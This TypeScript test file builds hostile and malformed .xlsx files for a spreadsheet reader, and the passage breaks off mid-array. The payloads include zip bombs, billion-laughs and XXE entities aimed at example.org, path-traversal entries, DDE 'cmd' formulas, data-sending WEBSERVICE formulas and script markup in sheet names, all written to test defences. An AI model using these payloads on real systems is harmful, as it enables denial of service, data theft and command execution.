import type { Code } from "../../core/issue/issue";
import type { CellValue } from "../../core/sheet/workbook";
import { type Bare, bareBook, bareRelation, cells } from "../kit/bare-book";
import { Chance } from "../kit/chance";
import { type Around, type Forged, forgedZip, swollen } from "../kit/forged-zip";

/** A file made to harm, or damaged, or of another kind; and what becomes of it. */
export interface Hostile {
  readonly name: string;
  readonly file?: string;
  readonly make: () => Uint8Array;
  /** The code of the sentence that refuses it; or it opens, with these warnings. */
  readonly refused?: Code;
  readonly opens?: readonly Code[];
  /** Made to fill a computer's memory. */
  readonly swells?: boolean;
  /** Where it opens: cell A1 of the first sheet, 7 unless told. */
  readonly first?: CellValue;
}

const utf8 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text));
const wide = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "utf16le"));
const joined = (...parts: readonly Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));
const book = (bare: Bare = {}, around: Around = {}): Uint8Array => forgedZip(bareBook(bare), around);
const sheet = (xml: string): Uint8Array => book({ sheets: [xml] });
/** The plain book with one of its parts made otherwise. */
const forged = (path: string, change: Partial<Forged>, around: Around = {}): Uint8Array =>
  forgedZip(bareBook().map((part) => (part.path === path ? { ...part, ...change } : part)), around);
const many = (count: number, make: (i: number) => string): string => Array.from({ length: count }, (_, i) => make(i)).join("");

/** A number that packs badly. */
const scattered = (i: number): number => (i * 2654435761) % 4294967296;

const SHEET = "xl/worksheets/sheet1.xml";
const SEVEN = '<row r="1"><c r="A1"><v>7</v></c></row>';
const seven = cells(SEVEN);
const OLE = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array<number>(600).fill(0)]);
const SPACES = new Uint8Array(2 ** 20).fill(32);
const noise = (bytes: number): Uint8Array => {
  const chance = new Chance(11);
  return Uint8Array.from({ length: bytes }, () => chance.whole(0, 255));
};
/** A megabyte of words that shrinks about sixtyfold, as text may. */
const prose = (): Uint8Array => {
  const chance = new Chance(5);
  const word = Array.from({ length: 40 }, () => String.fromCharCode(chance.whole(97, 122))).join("");
  let text = "";
  for (let i = 0; text.length < 2 ** 20; i++) text += `${word}${i % 7}`;
  return utf8(text.slice(0, 2 ** 20));
};
/** A stranger's hidden facts: what they would have written at a press. */
const fetching = 'WEBSERVICE("http://example.org/")';
const written = (part: object): string => JSON.stringify({ patch: { expect: [], sheets: [{ sheet: "Sheet1", ...part }] }, fresh: [] });
const writing = (f: string): string => written({ blocks: [{ row: 0, column: 0, cells: [[{ f, v: 7 }]] }] });
const JOURNAL: readonly (string | number)[] = ["scorebook journal 2", 1];
const BACK: readonly (string | number)[] = ["scorebook back 1", "repair", "2026-11-22T08:30", 1];
const keeping = (heads: readonly (string | number)[], text = writing(fetching)): Uint8Array => {
  const column = heads === BACK ? "AI" : "AE";
  const held = [...heads, `|${text}`];
  const lines = held.map((value, at) => {
    const kept = typeof value === "number" ? `<c r="${column}${at + 1}"><v>${value}</v></c>` : `<c r="${column}${at + 1}" t="inlineStr"><is><t>${value}</t></is></c>`;
    return `<row r="${at + 1}">${at === 0 ? '<c r="A1"><v>7</v></c>' : ""}${kept}</row>`;
  });
  return sheet(cells(lines.join("")));
};
const bomb = (times: number): Uint8Array => forged(SHEET, {
  packed: swollen('<worksheet xmlns="x"><sheetData/>', SPACES, times, "</worksheet>"), content: "",
});
const typed = (type: string): string => `<Override PartName="/xl/code.bin" ContentType="${type}"/>`;
const external = bareRelation("e1", "externalLink", "externalLinks/externalLink1.xml");
const formula = (text: string): Uint8Array => sheet(cells(`<row r="1"><c r="A1"><f>${text}</f><v>7</v></c></row>`));
const doctype = (text: string): Uint8Array => forged(SHEET, {
  content: `<?xml version="1.0"?>${text}<worksheet xmlns="x">${seven}</worksheet>`,
});
const laughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">${many(9, (i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`)}]>`;
const fetched = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://example.org/x">]>';
const MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
const VBA = "application/vnd.ms-office.vbaProject";

/** Files of other kinds, whatever they are called. */
const strangers: readonly Hostile[] = [
  { name: "nothing at all", make: () => new Uint8Array(0), refused: "file-empty" },
  { name: "comma separated text called .xlsx", make: () => utf8("Mã,Tiêu chí,Điểm\n1,Có kế hoạch,2\n"), refused: "not-xlsx" },
  { name: "a web page called .xlsx", make: () => utf8("<!doctype html><script>alert(1)</script><table><tr><td>1</td></tr></table>"), refused: "not-xlsx" },
  { name: "a PDF", make: () => utf8("%PDF-1.7\n1 0 obj"), refused: "not-xlsx" },
  { name: "a program", make: () => joined(utf8("MZ"), noise(2000)), refused: "not-xlsx" },
  { name: "random bytes", make: () => noise(5000), refused: "not-xlsx" },
  { name: "a zip of one text", make: () => forgedZip([{ path: "a.txt", content: "x" }]), refused: "not-xlsx" },
  { name: "an OpenDocument sheet", make: () => forgedZip([{ path: "mimetype", content: "application/vnd.oasis.opendocument.spreadsheet", stored: true }, { path: "content.xml", content: "<x/>" }]), refused: "not-xlsx" },
  { name: "a Word document called .xlsx", make: () => forgedZip([{ path: "[Content_Types].xml", content: "<Types/>" }, { path: "_rels/.rels", content: `<Relationships>${bareRelation("r", "officeDocument", "word/document.xml")}</Relationships>` }, { path: "word/document.xml", content: "<x/>" }]), refused: "not-xlsx" },
  { name: "a presentation called .xlsx", make: () => forgedZip([{ path: "[Content_Types].xml", content: "<Types/>" }, { path: "ppt/presentation.xml", content: "<x/>" }]), refused: "not-xlsx" },
  { name: "a binary workbook", file: "phiếu.xlsb", make: () => forgedZip([{ path: "[Content_Types].xml", content: "<Types/>" }, { path: "xl/workbook.bin", content: "x" }]), refused: "not-xlsx" },
  { name: "an old .xls", file: "phiếu.xls", make: () => joined(OLE, wide("Workbook")), refused: "file-old-xls" },
  { name: "an old Word document", make: () => joined(OLE, wide("WordDocument")), refused: "not-xlsx" },
  { name: "a workbook with a password", make: () => joined(OLE, wide("EncryptedPackage"), noise(3000)), refused: "file-password" },
];

/** Zips that lie. */
const zips: readonly Hostile[] = [
  { name: "a bomb of 300 MB", swells: true, make: () => bomb(300), refused: "file-bomb" },
  { name: "a bomb of 1.9 GB", swells: true, make: () => bomb(1900), refused: "file-bomb" },
  { name: "a bomb that its directory calls small", swells: true, make: () => forged(SHEET, { packed: swollen("<worksheet>", SPACES, 300, "</worksheet>"), content: "", own: { size: 90 }, listed: { size: 90 } }), refused: "file-bomb" },
  { name: "200 MB of prose in the texts", swells: true, make: () => forgedZip([...bareBook({ strings: "" }).filter(({ path }) => path !== "xl/sharedStrings.xml"), { path: "xl/sharedStrings.xml", content: "", packed: swollen("<sst><si><t>", prose(), 200, "</t></si></sst>") }]), refused: "file-too-large" },
  { name: "a bomb in a part that nobody reads", make: () => forgedZip([...bareBook(), { path: "xl/media/image1.png", content: "", packed: swollen("", SPACES, 300, "") }]), opens: ["file-parts-left"] },
  { name: "a directory that calls a part longer", make: () => forged(SHEET, { listed: { size: 99999 } }), refused: "file-contradicts" },
  { name: "a part under another name in its own head", make: () => forged(SHEET, { own: { path: "xl/worksheets/sheet2.xml" } }), refused: "file-contradicts" },
  { name: "one body under many names", make: () => forgedZip([...bareBook(), ...Array.from({ length: 500 }, (_, i) => ({ path: `xl/worksheets/copy${i}.xml`, content: "", sharing: SHEET }))]), refused: "file-contradicts" },
  { name: "one name for two parts", make: () => forgedZip([...bareBook(), { path: SHEET, content: `<worksheet>${cells('<row r="1"><c r="A1"><v>8</v></c></row>')}</worksheet>` }]), refused: "file-contradicts" },
  { name: "two names that differ by case alone", make: () => forgedZip([...bareBook(), { path: "XL/worksheets/Sheet1.xml", content: "<worksheet/>" }]), refused: "file-contradicts" },
  { name: "wide sizes and places, as large zips have", make: () => book({}, { wide: true }), opens: [] },
  { name: "a part locked by a packing program", make: () => forged(SHEET, { own: { flags: 0x0801 }, listed: { flags: 0x0801 } }), refused: "file-packing" },
  { name: "a part packed in another way", make: () => forged(SHEET, { own: { method: 14 }, listed: { method: 14 } }), refused: "file-packing" },
  { name: "a second zip behind the end", make: () => joined(book(), book({ sheets: [cells("")] })), refused: "file-contradicts" },
  { name: "words behind the end", make: () => book({}, { after: utf8("PK và nhiều thứ khác") }), refused: "file-contradicts" },
  { name: "zeros behind the end, as mail programs fill up", make: () => book({}, { after: new Uint8Array(700) }), opens: [] },
  { name: "a program in front that unpacks itself", make: () => book({}, { before: joined(utf8("MZ"), noise(400)) }), refused: "not-xlsx" },
  { name: "something hidden before the first part", make: () => book({}, { before: utf8("PK\x03\x04 giấu ở đây") }), refused: "file-contradicts" },
  { name: "an end that counts fewer parts", make: () => book({}, { count: 3 }), refused: "file-contradicts" },
  { name: "a part that climbs out", make: () => forgedZip([...bareBook(), { path: "../../evil.txt", content: "x" }]), refused: "file-paths" },
  { name: "a part at the root of a disk", make: () => forgedZip([...bareBook(), { path: "/etc/cron.d/x", content: "x" }]), refused: "file-paths" },
  { name: "a part with a drive and backslashes", make: () => forgedZip([...bareBook(), { path: "xl\\..\\..\\evil.txt", content: "x" }]), refused: "file-paths" },
  { name: "10,001 parts", make: () => forgedZip([...bareBook(), ...Array.from({ length: 10001 }, (_, i) => ({ path: `xl/media/${i}.png`, content: "", stored: true }))]), refused: "file-too-large" },
  { name: "a file cut in half", make: () => book().slice(0, 900), refused: "file-truncated" },
  { name: "a file without its last byte", make: () => book().slice(0, -1), refused: "file-truncated" },
  { name: "one bit of a body turned", make: () => { const bytes = book({ sheets: [cells(many(400, (i) => `<row r="${i + 1}"><c r="A${i + 1}"><v>7</v></c></row>`))] }); bytes[1500]! ^= 4; return bytes; }, refused: "file-damaged" },
];

/** Markup that hides something. */
const markups: readonly Hostile[] = [
  { name: "a billion laughs", make: () => doctype(laughs), refused: "file-markup" },
  { name: "an outside entity", make: () => doctype(fetched), refused: "file-markup" },
  { name: "two declarations of a document", make: () => doctype("<!-- x --><!DOCTYPE a><!DOCTYPE b>"), refused: "file-markup" },
  { name: "a declaration behind a comment of 300 kB", make: () => doctype(`<!--${Buffer.from(noise(150000)).toString("hex")}--><!DOCTYPE a>`), refused: "file-markup" },
  { name: "an outside entity in 16-bit letters", make: () => forged(SHEET, { content: joined(Uint8Array.from([0xff, 0xfe]), wide(`<?xml version="1.0" encoding="UTF-16"?>${fetched}<worksheet>${seven}</worksheet>`)) }), refused: "file-markup" },
  { name: "16-bit letters without a mark", make: () => forged(SHEET, { content: wide(`<?xml version="1.0"?>${fetched}<worksheet/>`) }), refused: "file-markup" },
  { name: "an entity in the list of sheets", make: () => forged("xl/workbook.xml", { content: `${fetched}<workbook/>` }), refused: "file-markup" },
  { name: "bytes that are no letters", make: () => forged(SHEET, { content: joined(utf8("<worksheet><sheetData>"), Uint8Array.from([0xc3, 0x28]), utf8("</sheetData></worksheet>")) }), refused: "file-damaged" },
  { name: "a sheet that breaks off", make: () => forged(SHEET, { content: `<worksheet><sheetData>${SEVEN}<row r="2"><c r="A2">` }), refused: "file-damaged" },
  { name: "tags that cross", make: () => forged(SHEET, { content: `<worksheet><sheetData><row r="1"><c r="A1"><v>7</c></v></row></sheetData></worksheet>` }), refused: "file-damaged" },
  { name: "100,000 tags within one another", make: () => forged(SHEET, { content: many(100000, (i) => `<a${(i * 2654435761) % 65536}>`) }), refused: "file-damaged" },
  { name: "an attribute that stands twice", make: () => sheet(cells('<row r="1"><c r="A1" r="B1"><v>7</v></c></row>')), refused: "file-damaged" },
  { name: "one tag of 3 MB", make: () => sheet(`${seven}<x a="${Buffer.from(noise(1500000)).toString("hex")}"/>`), refused: "file-damaged" },
];

/** Sheets that would be too much, or say two things. */
const sheets: readonly Hostile[] = [
  { name: "a cell at the far corner", make: () => sheet(cells(`${SEVEN}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`)), refused: "file-far-cell" },
  { name: "a cell beyond the far corner", make: () => sheet(cells(`${SEVEN}<row r="1048577"><c r="A1048577"><v>1</v></c></row>`)), refused: "file-damaged" },
  { name: "a row of ten million", make: () => sheet(cells('<row r="1" spans="1:10000000"><c r="ZZZ1"><v>1</v></c></row>')), refused: "file-damaged" },
  { name: "a million and one cells", make: () => sheet(cells(many(101, (r) => `<row r="${r + 1}">${many(9901, (c) => `<c><v>${r * c}</v></c>`)}</row>`))), refused: "file-too-large" },
  { name: "a cell that stands twice", make: () => sheet(cells('<row r="1"><c r="A1"><v>7</v></c><c r="A1"><v>100</v></c></row>')), refused: "file-cells-order" },
  { name: "rows that run backwards", make: () => sheet(cells('<row r="2"><c r="A2"><v>1</v></c></row><row r="1"><c r="A1"><v>7</v></c></row>')), refused: "file-cells-order" },
  { name: "a cell in another's row", make: () => sheet(cells('<row r="1"><c r="A9"><v>1</v></c></row>')), refused: "file-cells-order" },
  { name: "70,000 looks", make: () => book({ styles: `<cellXfs count="1000000000">${many(70000, (i) => `<xf fontId="${i}" fillId="${i * 7}"/>`)}</cellXfs>` }), refused: "file-too-large" },
  { name: "500,001 texts", make: () => book({ strings: many(500001, (i) => `<si><t>${scattered(i)}</t></si>`) }), refused: "file-too-large" },
  { name: "a text of a million letters", make: () => book({ strings: `<si><t>${Buffer.from(noise(500000)).toString("hex")}</t></si>` }), refused: "file-too-large" },
  { name: "a text of a million letters set apart", make: () => sheet(cells(`<row r="1"><c r="A1" t="inlineStr"><is><t><![CDATA[${Buffer.from(noise(500000)).toString("hex")}]]></t></is></c></row>`)), refused: "file-too-large" },
  { name: "100,001 merged areas", make: () => sheet(`${seven}<mergeCells>${many(100001, (i) => `<mergeCell ref="A${2 * i + 2}:A${2 * i + 3}"/>`)}</mergeCells>`), refused: "file-too-large" },
  { name: "columns described over and over", make: () => sheet(`<cols>${many(500, () => '<col min="1" max="16384" width="9"/>')}</cols>${seven}`), refused: "file-damaged" },
  { name: "501 sheets", make: () => book({ sheets: Array.from({ length: 501 }, () => seven) }), refused: "file-too-large" },
  { name: "two sheets of one name", make: () => book({ sheets: [seven, seven], names: ["Phiếu", "PHIẾU"] }), refused: "file-sheet-names" },
  { name: "a sheet name of 300 letters", make: () => book({ names: ["n".repeat(300)] }), refused: "file-sheet-names" },
  { name: "a sheet without a name", make: () => book({ names: [" "] }), refused: "file-sheet-names" },
  { name: "two sheets of one part", make: () => book({ names: ["A", "B"], sheets: [seven], relations: bareRelation("s2", "worksheet", "worksheets/sheet1.xml") }), refused: "file-contradicts" },
  { name: "one relation for two parts", make: () => book({ relations: bareRelation("s1", "worksheet", "worksheets/sheet2.xml") }), refused: "file-contradicts" },
  { name: "a sheet without a relation", make: () => book({ names: ["A", "B"], sheets: [seven] }), refused: "file-damaged" },
  { name: "a sheet whose part is missing", make: () => book({ parts: { [SHEET]: null } }), refused: "file-damaged" },
  { name: "a workbook that is not there", make: () => book({ parts: { "xl/workbook.xml": null } }), refused: "file-damaged" },
  { name: "no types of content", make: () => book({ parts: { "[Content_Types].xml": null } }), refused: "not-xlsx" },
  { name: "a workbook without a sheet", make: () => book({ names: [] }), refused: "file-empty" },
  { name: "formulas that share one of 8,000 letters 6,000 times", make: () => sheet(cells(`<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A6000">${"A1+".repeat(2600)}1</f><v>7</v></c></row>${many(5999, (i) => `<row r="${i + 2}"><c r="A${i + 2}"><f t="shared" si="0"/><v>${i}</v></c></row>`)}`)), refused: "file-too-large" },
];

/** Files that look bad and do no harm once they are opened. */
const harmless: readonly Hostile[] = [
  { name: "a plain book", make: () => book(), opens: [] },
  { name: "macros", file: "phiếu.xlsm", make: () => book({ bookType: MACRO_BOOK, parts: { "xl/vbaProject.bin": noise(3000) } }), opens: ["file-macros"] },
  { name: "macros called .xlsx", make: () => book({ bookType: MACRO_BOOK }), opens: ["file-macros"] },
  { name: "macros under another name", make: () => book({ types: typed(VBA), parts: { "xl/code.bin": noise(3000) } }), opens: ["file-macros"] },
  { name: "a sheet of old macros", make: () => book({ names: ["M", "T"], sheets: [seven], relations: bareRelation("s2", "xlMacrosheet", "macrosheets/sheet1.xml"), types: typed("application/vnd.ms-excel.macrosheet+xml") }), opens: ["file-macros"] },
  { name: "a sheet that is one chart", make: () => book({ names: ["T", "C"], sheets: [seven], relations: bareRelation("s2", "chartsheet", "chartsheets/sheet1.xml"), parts: { "xl/chartsheets/sheet1.xml": "<chartsheet/>" } }), opens: ["file-parts-left"] },
  { name: "a dimension that lies", make: () => sheet(`<dimension ref="A1:XFD1048576"/>${seven}`), opens: [] },
  { name: "a column up to two billion", make: () => sheet(`<cols><col min="1" max="2000000000" width="9"/></cols>${seven}`), opens: [] },
  { name: "a merge over the whole sheet", make: () => sheet(`${seven}<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>`), opens: ["file-parts-left"] },
  { name: "merges beyond the last cell", make: () => sheet(`${seven}<mergeCells count="2"><mergeCell ref="A1:CA2"/><mergeCell ref="B500:C900"/></mergeCells>`), opens: [] },
  { name: "a check over the whole sheet", make: () => sheet(`${seven}<dataValidations count="1"><dataValidation type="whole" sqref="A1:XFD1048576"><formula1>0</formula1><formula2>9</formula2></dataValidation></dataValidations>`), opens: ["file-parts-left"] },
  { name: "a format over the whole sheet", make: () => sheet(`${seven}<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>A1&gt;5</formula></cfRule></conditionalFormatting>`), opens: ["file-parts-left"] },
  { name: "a filter over the whole sheet", make: () => sheet(`${seven}<autoFilter ref="A1:XFD1048576"/>`), opens: ["file-parts-left"] },
  { name: "a pane frozen at the far corner", make: () => sheet(`<sheetViews><sheetView workbookViewId="0"><pane xSplit="16383" ySplit="1048575" state="frozen"/></sheetView></sheetViews>${seven}`), opens: [] },
  { name: "a height for the last row of all", make: () => sheet(cells(`${SEVEN}<row r="1048576" ht="12.8" customHeight="1"/>`)), opens: [] },
  { name: "counts of a billion", make: () => book({ styles: '<fonts count="1000000000"><font><sz val="11"/></font></fonts><cellXfs count="1000000000"><xf fontId="0"/></cellXfs>', strings: '<si><t>x</t></si>' }), opens: [] },
  ...([
    ["a text of another file's numbers", "<v>99999999</v>"], ["a text of number one too many", "<v>1</v>"], ["a text of no number", ""],
    ["a text of a blank number", "<v> </v>"],
  ] as const).map(([name, value]): Hostile => ({
    name, make: () => book({ sheets: [cells(`<row r="1"><c r="A1" t="s">${value}</c><c r="B1" t="s"><v>0</v></c></row>`)], strings: "<si><t>x</t></si>" }),
    opens: ["file-texts-missing"], first: null,
  })),
  { name: "a text where there are none", make: () => sheet(cells('<row r="1"><c r="A1" t="s"><v>0</v></c></row>')), opens: ["file-texts-missing"], first: null },
  { name: "a text whose number is set apart", make: () => book({ sheets: [cells('<row r="1"><c r="A1" s="0" xml:space="x" t="s"><v><![CDATA[0]]></v></c></row>')], strings: "<si><t>x</t></si>" }), opens: [], first: "x" },
  ...["-1", "0.5", "0x0", "1e0", "x", "99999999999999999999999999"].map((value): Hostile => ({
    name: `a text of number ${value}`, make: () => book({ sheets: [cells(`<row r="1"><c r="A1" t="s"><v>${value}</v></c></row>`)], strings: "<si><t>x</t></si><si><t>y</t></si>" }),
    refused: "file-damaged",
  })),
  { name: "a formula that fetches, in an unfinished write", make: () => keeping(JOURNAL), opens: ["file-outside"] },
  { name: "a link without its number, in a way back", make: () => keeping(BACK, writing("[1]Sheet{+0}!A1")), opens: ["file-outside"] },
  { name: "a formula that fetches, in a way back", make: () => keeping(BACK), opens: ["file-outside"] },
  { name: "an entry computed by a formula that fetches, in a way back", make: () => keeping(BACK, JSON.stringify({ decimal: ",", sheets: [], cells: [], forms: [
    { sheet: "Sheet1", unit: { code: "", name: "" }, language: "vi", before: { unit: { code: "", name: "" }, moved: [], formulas: [{ criterion: "1", part: "self", formula: fetching, value: 7 }] } },
  ] })), opens: ["file-outside"] },
  ...([
    ["a format that fetches", { conditionals: [{ area: { row: 0, column: 0, rows: 1, columns: 1 }, formula: `${fetching}=1`, style: {} }] }],
    ["a formula with a prefix that fetches", { blocks: [{ row: 0, column: 0, cells: [[{ f: `_xlfn.${fetching}`, v: 7 }]] }] }],
    ["a list of another workbook's cells", { validations: [{ area: {}, rule: { kind: "range", sheet: "C:\\x\\[b.xlsx]S", area: { row: 0, column: 0, rows: 1, columns: 1 } } }] }],
    ["a list of cells in a place that fetches", { validations: [{ area: {}, rule: { kind: "range", sheet: "S", area: { row: `1,${fetching}+`, column: 0, rows: 1, columns: 1 } } }] }],
    ["a bound that fetches", { validations: [{ area: {}, rule: { kind: "whole", min: fetching, max: 1 } }] }],
    ["rows on every page that fetch", { print: { orientation: "portrait", fitWidth: true, repeat: [`1:$1,${fetching}+`, 1] } }],
    ["a page that ends where it fetches", { print: { orientation: "portrait", fitWidth: true, breaks: [fetching] } }],
    ["a formula that fetches behind 20,000 brackets", { before: 0, blocks: [{ row: 0, column: 0, cells: [[{ f: fetching, v: 7 }]] }] }],
  ] as const).map(([name, part]): Hostile => ({
    name: `${name}, in an unfinished write`, opens: ["file-outside"],
    make: () => keeping(JOURNAL, written(part).replace('"before":0', () => `"before":${"[".repeat(10000)}${"]".repeat(10000)}`)),
  })),
  { name: "words that only look like links, in an unfinished write", make: () => keeping(JOURNAL, written({
    blocks: [{ row: 0, column: 0, cells: [[{ v: fetching }, { v: "cmd|'/c calc'!A0" }, { f: "LEN(B1)", v: 7 }]] }],
    validations: [{ area: { row: 0, column: 0, rows: 1, columns: 1 }, rule: { kind: "list", options: [fetching], prompt: { title: "a|b", text: "[1]A!B1" }, min: 0 } }],
  })), opens: [] },
  { name: "another workbook's cells", make: () => book({ sheets: [cells("<row r=\"1\"><c r=\"A1\"><f>[1]Sheet1!$A$1+'C:\\x\\[b.xlsx]S'!B2</f><v>7</v></c></row>")], relations: external, parts: { "xl/externalLinks/externalLink1.xml": "<externalLink/>" } }), opens: ["file-outside", "file-parts-left"] },
  { name: "a command of another program", make: () => formula("cmd|'/c calc'!A0"), opens: ["file-outside"] },
  { name: "a fetching function", make: () => formula('1+_xlfn.WEBSERVICE("http://example.org/?"&amp;B1)'), opens: ["file-outside"] },
  { name: "a link in a formula", make: () => formula('HYPERLINK("http://example.org/","7")'), opens: ["file-outside"] },
  { name: "a fetching function handed to another one", make: () => formula('_xlfn.MAP(A1:A9,_xlfn._xleta.WEBSERVICE)'), opens: ["file-outside"] },
  { name: "a function that asks a service", make: () => formula('LEN(_xlfn.TRANSLATE(B1,"vi","en"))'), opens: ["file-outside"] },
  { name: "a function of a program beside", make: () => formula('_xll.FETCH(B1)'), opens: ["file-outside"] },
  ...[
    "_XLFN.WEBSERVICE", "_Xlfn._xlws.IMAGE", "_xlfn._XLWS.IMAGE", "_XLUDF.WEBSERVICE", "_xlfn._xll.FETCH", "_XLL._xlfn.FETCH", "_xlfn._xlfn.RTD",
    "_xl_xlfn.fn.WEBSERVICE", "COM.MICROSOFT.WEBSERVICE", "_xlfn.ORG.LIBREOFFICE.WEBSERVICE", "_xlfn.WEBSERVICE ",
  ].map((called): Hostile => ({ name: `a fetching function called ${called}`, make: () => formula(`7+${called}("http://example.org/?"&amp;A2)`), opens: ["file-outside"] })),
  { name: "words and a sheet that are called as a prefix", make: () => book({ names: ["_xlfn.IMAGE"], sheets: [cells(`<row r="1"><c r="A1"><f>'_xlfn.IMAGE'!B1&amp;"_xlfn.IMAGE("</f><v>7</v></c></row>`)] }), opens: [] },
  { name: "a name of a book by its path", make: () => formula("1+'C:\\x\\b.xlsx'!Total"), opens: ["file-outside"] },
  { name: "a division beside a quoted sheet", make: () => formula("'T1'!B1/'T1'!B2"), opens: [] },
  { name: "a format that fetches", make: () => sheet(`${seven}<conditionalFormatting sqref="A1:A3"><cfRule type="expression" priority="1"><formula>_xlfn.WEBSERVICE("http://example.org/?"&amp;A1)=1</formula></cfRule></conditionalFormatting>`), opens: ["file-parts-left"] },
  { name: "a list of another workbook's cells", make: () => sheet(`${seven}<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]S!$A$1:$A$3</formula1></dataValidation></dataValidations>`), opens: ["file-parts-left"] },
  { name: "words that only look like a link", make: () => formula('7+LEN("[1]A!A1|x")*0'), opens: [] },
  { name: "relations in a circle", make: () => book({ relations: bareRelation("z", "worksheet", "workbook.xml"), sheetRelations: bareRelation("a", "drawing", "sheet1.xml") + bareRelation("b", "comments", "../worksheets/sheet1.xml") }), opens: [] },
  { name: "a relation to an address", make: () => book({ sheetRelations: '<Relationship Id="q" Type="http://x/image" Target="http://example.org/p.png" TargetMode="External"/>' }), opens: [] },
  { name: "names that scripts trip over", make: () => book({ names: ["__proto__", "constructor"], sheets: [seven, seven], custom: many(1, () => '<property name="__proto__" pid="2" fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}"><vt:lpwstr>x</vt:lpwstr></property><property name="toString" pid="3" fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}"><vt:lpwstr>y</vt:lpwstr></property>') }), opens: [] },
  { name: "titles on every page of columns beyond all", opens: [], make: () => book({
    sheets: [`${seven}<pageSetup orientation="landscape"/>`],
    definedNames: '<definedNames><definedName name="_xlnm.Print_Titles" localSheetId="0">T1!$ABCD:$ABCD</definedName></definedNames>',
  }) },
  { name: "markup in the name of a sheet", make: () => book({ names: ["&lt;img src=x onerror=alert(1)&gt;"] }), opens: [] },
  { name: "100 sheets", make: () => book({ sheets: Array.from({ length: 100 }, () => seven) }), opens: [] },
];

const CHART = '<c:chartSpace xmlns:c="c"><c:chart><c:f>T1!$A$1</c:f></c:chart></c:chartSpace>';
const FRAME = '<xdr:wsDr xmlns:xdr="x" xmlns:a="a" xmlns:a14="b" xmlns:c="c" xmlns:r="r"><xdr:twoCellAnchor/><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart r:id="c1"/></a:graphicData></xdr:wsDr>';
const PICTURE = '<xdr:wsDr xmlns:xdr="x" xmlns:a="a" xmlns:r="r"><xdr:twoCellAnchor/><a:blip r:embed="p1"/></xdr:wsDr>';
const DRAWN = `${seven}<drawing r:id="d1"/>`;
const calls = (text: string): string => `<Relationships xmlns="x">${text}</Relationships>`;
const comment = (ref: string): string => `<comment ref="${ref}" authorId="0"><text><t>Xem lại</t></text></comment>`;
const comments = (list: string): string => `<comments><authors><author>A</author></authors><commentList>${list}</commentList></comments>`;
const box = (row: number): string =>
  `<v:shape id="s${row}"><x:ClientData ObjectType="Note"><x:Row>${row}</x:Row><x:Column>0</x:Column></x:ClientData></v:shape>`;
const boxes = (list: string): string => `<xml xmlns:v="v" xmlns:x="x">${list}</xml>`;
type Parts = Readonly<Record<string, string | Uint8Array | null>>;
/** The plain book with a chart on its sheet, its parts made otherwise. */
const drawn = (parts: Parts = {}, bare: Bare = {}): Uint8Array => book({
  sheets: [DRAWN], sheetRelations: bareRelation("d1", "drawing", "../drawings/drawing1.xml"), ...bare,
  parts: {
    "xl/drawings/drawing1.xml": FRAME, "xl/drawings/_rels/drawing1.xml.rels": calls(bareRelation("c1", "chart", "../charts/chart1.xml")),
    "xl/charts/chart1.xml": CHART, ...parts,
  },
});
const pictured = (relation: string, parts: Parts = {}): Uint8Array => drawn({
  "xl/drawings/drawing1.xml": PICTURE, "xl/drawings/_rels/drawing1.xml.rels": calls(relation), "xl/charts/chart1.xml": null, ...parts,
});
const commented = (list: string, shapes: string, parts: Parts = {}): Uint8Array => book({
  sheets: [`${seven}<legacyDrawing r:id="v1"/>`],
  sheetRelations: bareRelation("v1", "vmlDrawing", "../drawings/vmlDrawing1.vml") + bareRelation("k1", "comments", "../comments1.xml"),
  parts: { "xl/comments1.xml": list, "xl/drawings/vmlDrawing1.vml": shapes, ...parts },
});
const outward = (type: string): string => `<Relationship Id="p1" Type="http://x/${type}" Target="http://example.org/p.png" TargetMode="External"/>`;
const swollenChart = (path: string, head: string, tail: string, make: () => Forged[]): Uint8Array =>
  forgedZip(make().map((part) => (part.path === path ? { ...part, content: "", packed: swollen(head, SPACES, 300, tail) } : part)));
const kept = { opens: ["file-parts-kept"] } as const;
const left = { opens: ["file-parts-left"] } as const;
const withChart = (content: string): (() => Uint8Array) => () => drawn({ "xl/charts/chart1.xml": content });
const shape = (inside: string): (() => Uint8Array) => () => drawn({ "xl/drawings/drawing1.xml": FRAME.replace("</xdr", `${inside}</xdr`) });

/** What hangs on sheets and is carried along past the reader: charts, pictures, comments. */
const hanging: readonly Hostile[] = [
  { name: "a chart", make: () => drawn(), ...kept },
  { name: "a comment", make: () => commented(comments(comment("A1")), boxes(box(0))), ...kept },
  { name: "10,000 comments", make: () => commented(comments(many(10000, (i) => comment(`A${i + 1}`))), boxes(many(10000, box))), ...kept },
  { name: "100,001 comments", make: () => commented(comments(many(100001, (i) => comment(`A${i + 1}`))), boxes("")), ...left },
  { name: "comments with an entity", make: () => commented(`${laughs}${comments(comment("A1"))}`, boxes(box(0))), refused: "file-markup" },
  { name: "a comments' drawing with an outside entity", make: () => commented(comments(comment("A1")), `${fetched}${boxes(box(0))}`), refused: "file-markup" },
  { name: "a chart with an entity", make: withChart(`${fetched}${CHART}`), refused: "file-markup" },
  { name: "a chart's relations with an entity", make: () => drawn({ "xl/charts/_rels/chart1.xml.rels": `${fetched}${calls("")}` }), refused: "file-markup" },
  { name: "a chart that swells", swells: true, refused: "file-bomb", make: () => swollenChart("xl/charts/chart1.xml", "<c:chartSpace>", "</c:chartSpace>", () => bareBook({
    sheets: [DRAWN], sheetRelations: bareRelation("d1", "drawing", "../drawings/drawing1.xml"),
    parts: { "xl/drawings/drawing1.xml": FRAME, "xl/drawings/_rels/drawing1.xml.rels": calls(bareRelation("c1", "chart", "../charts/chart1.xml")), "xl/charts/chart1.xml": CHART },
